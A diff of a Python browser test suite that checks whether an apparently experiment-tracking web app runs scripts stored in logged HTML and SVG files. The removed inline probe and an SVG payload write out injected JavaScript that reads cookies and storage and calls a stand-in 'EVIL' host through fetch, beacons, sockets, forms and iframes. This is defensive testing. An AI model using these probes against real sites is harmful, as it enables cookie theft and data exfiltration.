@@ -5,6 +5,7 @@ from __future__ import annotations
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 from urllib.parse import urlencode, urlsplit
 
@@ -54,7 +55,7 @@ def test_no_page_runs_what_a_store_holds(opens: Opens) -> None:
     visit = opens()
     visit.expects |= {400, 404, 502}  # a damaged file may be refused; what was asked of others never is
     dialogs: list[str] = []
-    visit.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    visit.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
     visit.page.on("popup", lambda popup: dialogs.append(popup.url))
     waiting, seen = ["/", "/experiments", "/models", "/store", "/search?q=script"], set[tuple[Any, ...]]()
     while waiting and len(seen) < MOST:
@@ -81,34 +82,7 @@ def test_no_page_is_wider_than_a_phone(opens: Opens, server: Served) -> None:
             assert page.evaluate("document.documentElement.scrollWidth") <= NARROW[0], tab
 
 
-TRIES = """
-const told = {};
-const attempt = (name, act) => { try { const got = act(); told[name] = got === undefined ? "done" : String(got); } catch (error) { told[name] = "no"; } };
-attempt("cookie", () => document.cookie);
-attempt("write cookie", () => { document.cookie = "a=1"; return document.cookie; });
-attempt("storage", () => localStorage.length);
-attempt("session", () => sessionStorage.length);
-attempt("database", () => indexedDB.open("x"));
-attempt("parent", () => parent.document.title);
-attempt("top", () => top.location.href);
-attempt("frame", () => frameElement && frameElement.src);
-attempt("open", () => window.open("EVIL/") && "opened");
-attempt("dialog", () => { alert(1); return window.prompt("x") || "nothing"; });
-attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["1"]))));
-attempt("top navigation", () => { top.location = "EVIL/top"; });
-attempt("form", () => { const form = document.createElement("form"); form.action = "EVIL/form"; document.body.append(form); form.submit(); });
-attempt("link", () => { const link = document.createElement("a"); link.href = "EVIL/a"; link.target = "_blank"; document.body.append(link); link.click(); });
-attempt("picture", () => { new Image().src = "EVIL/i"; new Image().src = "/own"; });
-attempt("style", () => { const sheet = document.createElement("link"); sheet.rel = "stylesheet"; sheet.href = "EVIL/s"; document.head.append(sheet); });
-attempt("prefetch", () => { for (const rel of ["prefetch", "preload", "dns-prefetch", "preconnect"]) { const one = document.createElement("link"); one.rel = rel; one.href = "EVIL/p"; one.as = "script"; document.head.append(one); } });
-attempt("frame in it", () => { const frame = document.createElement("iframe"); frame.src = "EVIL/f"; document.body.append(frame); });
-attempt("beacon", () => navigator.sendBeacon("EVIL/b"));
-attempt("socket", () => { new WebSocket("ws:EVIL/w"); });
-attempt("events", () => { new EventSource("/"); });
-attempt("import", () => { import("EVIL/x.js").catch(() => {}); });
-const asked = Promise.allSettled([fetch("EVIL/"), fetch("/"), fetch(location.href)]);
-asked.then((all) => { told.fetch = all.map((one) => one.status).join(); document.body.dataset.told = JSON.stringify(told); });
-"""
+TRIES = (Path(__file__).parents[2] / "support" / "attack.js").read_text()
 
 
 LEAVES = (
@@ -129,7 +103,8 @@ def evil() -> Iterator[tuple[str, list[str]]]:
             asked.append(self.path)
             self.send_error(404)
 
-        do_POST = do_GET
+        def do_POST(self) -> None:
+            self.do_GET()
 
         def log_message(self, format: str, *args: object) -> None:
             pass
@@ -150,7 +125,8 @@ def attacked(evil: tuple[str, list[str]]) -> Iterator[tuple[Served, str]]:
         run.log_text(f"<!doctype html><body><p>plot</p><script>{tries}</script>", "plot.html")
         for n, text in enumerate(LEAVES):
             run.log_text(f"<!doctype html><body>{text.replace('EVIL', evil[0])}", f"leaves{n}.html")
-        svg = f"<script>document.documentElement.id = 'ran'; fetch('{evil[0]}/svg').catch(() => 0)</script><image href='{evil[0]}/svg.png'/>"
+        script = f"<script>document.documentElement.id = 'ran'; fetch('{evil[0]}/svg').catch(() => 0)</script>"
+        svg = f"{script}<image href='{evil[0]}/svg.png'/>"
         run.log_text(f"<svg xmlns='http://www.w3.org/2000/svg'>{svg}</svg>", "plot.svg")
         run.log_text("<p>" + "x" * (9 << 20), "long.html")
     with served(store) as server:
